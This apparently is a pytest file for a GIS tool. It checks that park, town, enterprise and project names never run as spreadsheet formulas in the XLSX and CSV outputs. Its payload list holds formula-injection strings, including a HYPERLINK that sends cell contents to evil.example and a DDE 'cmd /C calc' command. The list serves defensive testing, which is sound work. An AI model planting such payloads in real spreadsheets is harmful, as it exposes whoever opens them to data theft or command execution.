"""Formula injection: no text from the data runs as a formula in any workbook or CSV file parkgis writes.

Hostile names (enterprises, parks, towns, projects) begin with ``= + - @``, a tab
or a carriage return, as OWASP lists. In a workbook such text is a text cell
with Excel's quote prefix (the value kept exactly); in a CSV file it starts
with an apostrophe. Numbers stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from faults_common import box, parcels, run
from toylayers import toy_layers, write_toy_gpkg

from gis.io.tables import FORMULA_STARTS, is_formula_text

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此 click")', "=cmd|' /C calc'!A0", "+SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Toy layers whose parks and towns have hostile names, parcels and projects too."""
    d = tmp_path_factory.mktemp("hostile")
    roles = toy_layers()
    roles["parks"]["name_zh"] = [PAYLOADS[0], PAYLOADS[4]]
    roles["parks"]["name_en"] = [PAYLOADS[1], PAYLOADS[2]]
    roles["construction_areas"]["town_zh"] = [PAYLOADS[3], PAYLOADS[5]]
    layers = write_toy_gpkg(d / "layers.gpkg", roles)
    p = parcels([(f"p{k}", box(3 + k * 0.3, 3, 3.2 + k * 0.3, 3.2)) for k in range(len(PAYLOADS))]
                + [("q", box(12.5, 5, 13, 5.5)), ("r", box(8, 3, 9, 4))])
    p["enterprise_zh"] = PAYLOADS + ["=B1", "@x"]
    p["output_wan"] = 100_000.0  # above the density target in park A: a negative gap
    p["tax_wan"] = 5.0
    p.to_file(d / "parcels.gpkg")
    rows = ["project_id,name,lon,lat,industry"] + [
        f'P{k},"{name}",121.43,31.58,3311' for k, name in enumerate(x.replace('"', '""') for x in PAYLOADS[:5])]
    (d / "projects.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return d, layers


def check_xlsx(path: Path) -> list[str]:
    """No formula cell; every formula-like text a quote-prefixed text cell. Returns all texts."""
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate}: a formula: {c.value!r}"
                if isinstance(c.value, str):
                    texts.append(c.value)
                    if is_formula_text(c.value):
                        assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}: {c.value!r}"
    return texts


def check_csv(path: Path) -> list[str]:
    """No cell begins with a formula character (but ``-`` before a plain number). Returns all cells."""
    with open(path, encoding="utf-8-sig", newline="") as fh:  # newline="": a "\r" inside a cell stays one
        cells = [c for row in csv.reader(fh) for c in row]
    for c in cells:
        assert not is_formula_text(c), f"{path.name}: {c!r} would run as a formula"
    return cells


def _payloads_kept(texts: list[str], payloads, csv_file: bool = False) -> None:
    """Nothing lost: each payload is there, as typed (a CSV cell with OWASP's apostrophe)."""
    for p in payloads:
        assert (("'" + p) if csv_file else p) in texts, f"{p!r} missing"


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_grade(tmp_path, hostile, suffix):
    d, layers = hostile
    out = tmp_path / f"grades{suffix}"
    r = run("grade", d / "parcels.gpkg", "--layers", layers, "-o", out, "--summary", tmp_path / f"s{suffix}")
    assert r.exit_code == 0, r.output
    texts = check_xlsx(out) if suffix == ".xlsx" else check_csv(out)
    _payloads_kept(texts, PAYLOADS[:5], suffix == ".csv")
    (check_xlsx if suffix == ".xlsx" else check_csv)(tmp_path / f"s{suffix}")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_density_keeps_negative_numbers_numbers(tmp_path, hostile, suffix):
    d, layers = hostile
    out = tmp_path / f"density{suffix}"
    r = run("density", d / "parcels.gpkg", "--layers", layers, "--by", "park", "--by", "town", "-o", out)
    assert r.exit_code == 0, r.output
    if suffix == ".xlsx":
        texts = check_xlsx(out)
        _payloads_kept(texts, [PAYLOADS[0], PAYLOADS[3]])
        ws = openpyxl.load_workbook(out).worksheets[0]
        gaps = [c for c in ws[next(c.column_letter for c in ws[4] if c.value == "gap_yi_per_km2")]
                if isinstance(c.value, (int, float))]
        assert gaps and all(c.data_type == "n" for c in gaps) and min(c.value for c in gaps) < 0
    else:
        cells = check_csv(out)
        _payloads_kept(cells, [PAYLOADS[0], PAYLOADS[3]], csv_file=True)
        assert any(c.startswith("-") and float(c) < 0 for c in cells if c[:1] == "-")  # negative gaps, plain


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_classify_summary_and_csv_output(tmp_path, hostile, suffix):
    d, layers = hostile
    r = run("classify", d / "parcels.gpkg", "--layers", layers, "-o", tmp_path / "c.csv",
            "--summary", tmp_path / f"summary{suffix}")
    assert r.exit_code == 0, r.output
    _payloads_kept(check_csv(tmp_path / "c.csv"), PAYLOADS, csv_file=True)
    (check_xlsx if suffix == ".xlsx" else check_csv)(tmp_path / f"summary{suffix}")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_site_check_projects(tmp_path, hostile, suffix):
    d, layers = hostile
    out = tmp_path / f"sites{suffix}"
    r = run("site-check", "--projects", d / "projects.csv", "--layers", layers, "-o", out)
    assert r.exit_code == 0, r.output
    texts = check_xlsx(out) if suffix == ".xlsx" else check_csv(out)
    _payloads_kept(texts, PAYLOADS[:5], suffix == ".csv")


def test_report_tables(tmp_path, hostile):
    d, layers = hostile
    out = tmp_path / "rep"
    r = run("report", d / "parcels.gpkg", "--layers", layers, "--projects", d / "projects.csv", "-o", out,
            "--no-pdf", "--no-static-maps")
    assert r.exit_code == 0, r.output
    _payloads_kept(check_xlsx(out / "tables.xlsx"), [PAYLOADS[0], PAYLOADS[1], "=cmd|' /C calc'!A0"])


def test_track_workbook(tmp_path, hostile):
    d, layers = hostile
    snaps = []
    for year in (2023, 2024):
        rows = [("a", box(3, 3, 4, 4)), ("b", box(8, 3, 9, 4))]
        p = parcels(rows + ([("c", box(6, 3, 7, 4))] if year > 2023 else []))
        p["enterprise_zh"] = [PAYLOADS[1], PAYLOADS[2]] + ([PAYLOADS[0]] if year > 2023 else [])
        p["output_wan"] = 100.0
        snaps.append(tmp_path / f"parcels_{year}.gpkg")
        p.to_file(snaps[-1])
    r = run("track", *snaps, "--layers", layers, "-o", tmp_path / "track.xlsx")
    assert r.exit_code == 0, r.output
    check_xlsx(tmp_path / "track.xlsx")


def test_web_downloads(tmp_path, hostile):
    """The web app's classify job writes its summary workbook and density workbook through the same writer."""
    from gis.classification.classify import classify
    from gis.io.vector import read_vector
    from gis.layers.layerset import load_layers
    from gis.web import job_tasks

    d, layers = hostile
    ls = load_layers(layers)
    result = classify(read_vector(d / "parcels.gpkg"), ls)
    job_tasks._write_zip(tmp_path, result, ls, [PAYLOADS[0]])
    import zipfile

    with zipfile.ZipFile(tmp_path / "parkgis-classified.zip") as zf:
        zf.extract("summary.xlsx", tmp_path / "x")
    check_xlsx(tmp_path / "x" / "summary.xlsx")
    job_tasks._density(tmp_path, result, ls, [])
    _payloads_kept(check_xlsx(tmp_path / "density.xlsx"), [PAYLOADS[0], PAYLOADS[1]])


def test_the_guard_itself():
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    for p in PAYLOADS:
        assert is_formula_text(p)
    for safe in ("-5", "+1.5e3", "-12.5%", "1,000", "甲公司", "", "e=mc2"):
        assert not is_formula_text(safe)
    assert not is_formula_text(-5.0)
